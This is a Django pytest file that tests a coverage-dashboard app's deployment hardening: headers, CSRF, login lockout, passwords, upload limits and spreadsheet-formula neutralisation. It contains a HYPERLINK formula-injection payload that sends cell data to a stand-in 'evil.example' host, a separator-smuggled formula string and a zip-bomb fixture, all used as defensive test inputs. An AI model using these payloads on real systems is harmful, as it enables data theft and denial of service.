"""Deployment hardening: check --deploy, security headers, CSRF, login lockout, sessions,
passwords, upload limits and formula injection in every export."""

import csv
import io
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from django.conf import settings
from django.contrib.auth.password_validation import validate_password
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from coverage.models import ImportBatch, ParticipantCount
from programs.models import FundedBatch
from tests.conftest import PASSWORD
from tests.factories import make_region

pytestmark = pytest.mark.django_db

ROOT = Path(settings.BASE_DIR)


def test_check_deploy_is_clean_with_production_settings():
    """The real settings module in a fresh process, with the production environment of docs/SECURITY.md."""
    env = {
        **{k: v for k, v in os.environ.items() if not k.startswith(("SECURE_", "PYTEST", "DJANGO_SETTINGS"))},
        "DEBUG": "false",
        "SECRET_KEY": "k3Y-" + "x7Qp9Lm2Zr8Tv4Wb6Nc1Hd5Jf0Gs3Ka" * 2,
        "ALLOWED_HOSTS": "ucj.example.go.id",
        "SECURE_SSL_REDIRECT": "true",
        "SECURE_HSTS_SECONDS": "31536000",
        "SECURE_COOKIES": "true",
        "AXES_ENABLED": "true",
    }
    result = subprocess.run(  # noqa: S603 - fixed arguments
        [sys.executable, "manage.py", "check", "--deploy", "--fail-level", "WARNING"],
        cwd=ROOT, env=env, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert result.returncode == 0, result.stdout + result.stderr
    assert "System check identified no issues (0 silenced)." in result.stdout


def test_security_headers_on_every_page(client, world):
    client.force_login(world["personas"]["operator_kota_malang"])
    for url in ("/masuk/", reverse("coverage:region_dashboard", kwargs={"code": "35.73"}), reverse("admin:login")):
        response = client.get(url)
        policy = response["Content-Security-Policy"]
        directives = dict(part.strip().split(" ", 1) for part in policy.split(";"))
        assert directives["script-src"] == "'self'", url  # no 'unsafe-inline', no 'unsafe-eval'
        assert "unsafe" not in directives["default-src"]
        assert directives["frame-ancestors"] == "'none'"
        assert directives["object-src"] == "'none'"
        assert response["X-Frame-Options"] == "DENY"
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Referrer-Policy"] == "same-origin"


def test_hsts_and_secure_cookies_over_https(client, settings, world):
    settings.SECURE_HSTS_SECONDS = 31_536_000
    settings.SECURE_HSTS_INCLUDE_SUBDOMAINS = True
    settings.SECURE_HSTS_PRELOAD = True
    settings.SESSION_COOKIE_SECURE = settings.CSRF_COOKIE_SECURE = True
    response = client.get("/masuk/", secure=True)
    assert response["Strict-Transport-Security"] == "max-age=31536000; includeSubDomains; preload"
    csrf = response.cookies["csrftoken"]
    assert csrf["secure"] and csrf["samesite"] == "Lax"
    login = client.post("/masuk/", {"username": "operator.kotamalang", "password": PASSWORD}, secure=True)
    session = login.cookies["sessionid"]
    assert session["secure"] and session["httponly"] and session["samesite"] == "Lax"
    assert session["max-age"] == ""  # ends when the browser closes ...
    assert settings.SESSION_COOKIE_AGE == 8 * 60 * 60  # ... and after 8 hours at most


SCRIPT = re.compile(r"<script\b([^>]*)>", re.IGNORECASE)
INLINE_HANDLER = re.compile(r"\son[a-z]+\s*=|javascript:", re.IGNORECASE)


def _inline_scripts(html):
    return [attrs for attrs in SCRIPT.findall(html) if "src=" not in attrs and "application/json" not in attrs]


def test_no_template_has_an_inline_script_or_handler():
    offenders = []
    for path in (ROOT / "templates").rglob("*.html"):
        text = path.read_text(encoding="utf-8")
        if _inline_scripts(text) or INLINE_HANDLER.search(text):
            offenders.append(str(path.relative_to(ROOT)))
    assert not offenders


def test_rendered_pages_carry_no_inline_script(client, world):
    """What the browser gets, including Django admin: every script is a file or json_script data."""
    client.force_login(world["personas"]["admin"])
    urls = [
        reverse("coverage:region_dashboard", kwargs={"code": "35.73"}),
        reverse("coverage:office_dashboard", kwargs={"code": "KC-MALANG"}),
        reverse("coverage:entry_grid", kwargs={"code": "35.73"}) + "?periode=2025-06",
        reverse("coverage:league_table"),
        reverse("programs:simulator"),
        reverse("admin:coverage_participantcount_change", args=[world["count"].pk]),
    ]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert not _inline_scripts(html), url
        assert not INLINE_HANDLER.search(html), url


def _post_views(patterns, prefix=""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            yield from _post_views(pattern.url_patterns, prefix + str(pattern.pattern))
        elif isinstance(pattern, URLPattern):
            yield prefix + str(pattern.pattern), pattern.callback


# The one exception: the unsubscribe link of a monthly-PDF e-mail, which mail programs POST to without a
# session (RFC 8058 one-click); its signed token is the credential (docs/SECURITY.md).
CSRF_EXEMPT = {"laporan/berhenti/<str:token>/"}
# The API's operations (django-ninja marks its views exempt and checks the token itself when the
# browser's session signs a request in; a request with an API key carries no cookie to forge).
# test_the_apis_post_with_a_session_needs_the_csrf_token below holds ninja to it.
API_ROUTES = {
    "api/v1/snapshot/", "api/v1/regions/", "api/v1/offices/", "api/v1/targets/", "api/v1/completeness/",
    "api/v1/funded/", "api/v1/summary/", "api/v1/counts/", "api/v1/open-data/", "api/v1/open-data/metadata/",
}  # fmt: skip


def test_no_view_is_exempt_from_csrf():
    exempt = [route for route, view in _post_views(get_resolver().url_patterns) if getattr(view, "csrf_exempt", False)]
    assert [route for route in exempt if route not in CSRF_EXEMPT | API_ROUTES] == []


def test_the_apis_post_with_a_session_needs_the_csrf_token(world):
    client = Client(enforce_csrf_checks=True)
    client.force_login(world["personas"]["operator_kota_malang"])
    body = '{"period": "2025-06", "counts": [{"region": "35.73", "segment": "PU", "active": 1, "version": 0}]}'
    response = client.post(reverse("coverage:api_counts"), body, content_type="application/json")
    assert response.status_code == 403
    assert "X-CSRFToken" in response.json()["detail"]


def test_a_post_without_the_csrf_token_is_refused(world):
    client = Client(enforce_csrf_checks=True)
    client.force_login(world["personas"]["operator_kota_malang"])
    batch = world["batch"]
    for url in (
        reverse("coverage:entry_grid", kwargs={"code": "35.73"}) + "?periode=2025-06",
        reverse("coverage:import_counts"),
        reverse("programs:batch_delete", kwargs={"pk": batch.pk}),
        reverse("logout"),
    ):
        assert client.post(url, {}).status_code == 403, url
    assert FundedBatch.objects.filter(pk=batch.pk).exists()


def test_login_is_locked_after_five_failures_for_that_user_and_address(settings, operator_kota_malang):
    settings.AXES_ENABLED = True
    client = Client(REMOTE_ADDR="10.0.0.7")
    for _attempt in range(5):
        response = client.post("/masuk/", {"username": "operator.kotamalang", "password": "salah"})
        assert response.status_code in (200, 429)
    locked = client.post("/masuk/", {"username": "operator.kotamalang", "password": PASSWORD})
    assert locked.status_code == 429
    assert "Terlalu banyak percobaan masuk" in locked.content.decode()
    assert "_auth_user_id" not in client.session  # the right password does not get in while locked
    # Another address (the real operator at the office) is not locked out by an attacker elsewhere.
    office = Client(REMOTE_ADDR="10.0.0.8")
    assert office.post("/masuk/", {"username": "operator.kotamalang", "password": PASSWORD}).status_code == 302


def test_weak_passwords_are_refused(operator_kota_malang):
    for weak in ("12345678", "password", "pendek", "operator.kotamalang"):
        with pytest.raises(ValidationError):
            validate_password(weak, user=operator_kota_malang)
    validate_password("Cakupan-Jamsostek-2025", user=operator_kota_malang)


# --- uploads ----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def zip_bomb():
    """A well-formed .xlsx-looking zip whose one sheet inflates to 120 MB (about 120 KB on disk)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            chunk = b"0" * (1024 * 1024)
            for _megabyte in range(120):
                sheet.write(chunk)
    return buffer.getvalue()


def _uploads(zip_bomb):
    return {
        "zip bomb": (SimpleUploadedFile("bom.xlsx", zip_bomb), "terlalu besar setelah diekstrak"),
        "50 MB": (SimpleUploadedFile("besar.xlsx", b"\0" * (50 * 1024 * 1024)), "Berkas terlalu besar"),
    }


def test_the_counts_import_refuses_a_zip_bomb_and_a_50_mb_file(client, world, zip_bomb):
    client.force_login(world["personas"]["operator_kota_malang"])
    before = ParticipantCount.objects.count()
    assert len(zip_bomb) < 1024 * 1024
    for label, (upload, message) in _uploads(zip_bomb).items():
        response = client.post(reverse("coverage:import_counts"), {"file": upload})
        assert response.status_code == 200, label
        assert message in response.content.decode(), label
    assert ParticipantCount.objects.count() == before
    assert not ImportBatch.objects.filter(status="applied").exists()


def test_the_batch_import_refuses_a_zip_bomb_and_a_50_mb_file(client, world, zip_bomb):
    client.force_login(world["personas"]["operator_kota_malang"])
    url = reverse("programs:batch_import", kwargs={"code": "35.73"})
    for label, (upload, message) in _uploads(zip_bomb).items():
        response = client.post(url, {"file": upload, "apply": "on"})
        assert response.status_code == 200, label
        assert message in response.content.decode(), label
    assert FundedBatch.objects.count() == 1


# --- exports ----------------------------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


def _formulas(content):
    workbook = load_workbook(io.BytesIO(content))
    return [cell.value for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_no_export_carries_a_formula_from_data(client, world):
    """A region whose name is a formula (Kecamatan in Kota Malang), in every export that shows names."""
    from coverage.engine import coverage_recompute
    from tests.trust.conftest import PERIOD

    evil = make_region("35.73.03", EVIL)
    ParticipantCount.objects.create(
        region=evil, period=PERIOD, segment="PU", source="bpjs", status="verified", active=5
    )
    coverage_recompute(periods=[PERIOD])
    client.force_login(world["personas"]["admin"])
    xlsx = {
        "league table": client.get(
            reverse("coverage:league_table_export", kwargs={"fmt": "xlsx"}), {"tingkat": 3, "induk": "35.73"}
        ),
        "counts template": client.get(reverse("coverage:import_template"), {"wilayah": "35.73", "periode": "2025-06"}),
        "simulator": client.get(
            reverse("programs:simulator_export"),
            {
                "region": "35.73.03",
                "year": 2025,
                "start_month": 1,
                "months": 3,
                "workers": 742,
                "package": world["batch"].package.pk,
            },
        ),  # fmt: skip
        "batch template": client.get(reverse("programs:batch_import_template", kwargs={"code": "35.73"})),
    }
    for label, response in xlsx.items():
        assert response.status_code == 200, (label, response.status_code)
        assert _formulas(response.content) == [], label
    template = load_workbook(io.BytesIO(xlsx["counts template"].content))["Data"]
    assert f"'{EVIL}" in [row[1] for row in template.iter_rows(values_only=True)]  # kept, as text
    league = load_workbook(io.BytesIO(xlsx["league table"].content)).active
    assert f"'{EVIL}" in [row[2] for row in league.iter_rows(values_only=True)]
    response = client.get(
        reverse("coverage:league_table_export", kwargs={"fmt": "csv"}), {"tingkat": 3, "induk": "35.73"}
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert f"'{EVIL}" in [row[2] for row in rows]
    assert not any(field.startswith(("=", "+", "@")) for row in rows for field in row)


def test_a_formula_after_a_comma_stays_inside_one_neutralised_csv_field(client, world):
    """Issue #18: "x,=1+2,y" was written unquoted, so a spreadsheet splitting on "," ran "=1+2"."""
    from coverage.engine import coverage_recompute
    from tests.trust.conftest import PERIOD

    sneaky = make_region("35.73.03", "x,=1+2,y;@SUM(A1)")
    ParticipantCount.objects.create(
        region=sneaky, period=PERIOD, segment="PU", source="bpjs", status="verified", active=5
    )
    coverage_recompute(periods=[PERIOD])
    client.force_login(world["personas"]["operator_kab_blitar"])
    response = client.get(
        reverse("coverage:league_table_export", kwargs={"fmt": "csv"}), {"tingkat": 3, "induk": "35.73"}
    )
    text = response.content.decode("utf-8-sig")

    rows = list(csv.reader(io.StringIO(text), delimiter=";"))  # as the export is meant to be read
    assert [row[2] for row in rows[1:] if row[1] == "35.73.03"] == ["x,'=1+2,y;'@SUM(A1)"]
    assert all(line.startswith('"') and line.endswith('"') for line in text.splitlines())  # every field quoted
    for separator in (";", ",", "\t"):  # as a spreadsheet set to another separator would split it
        fields = [field for row in csv.reader(io.StringIO(text), delimiter=separator) for field in row]
        assert not [field for field in fields if field.lstrip('"').startswith(("=", "+", "@"))], separator
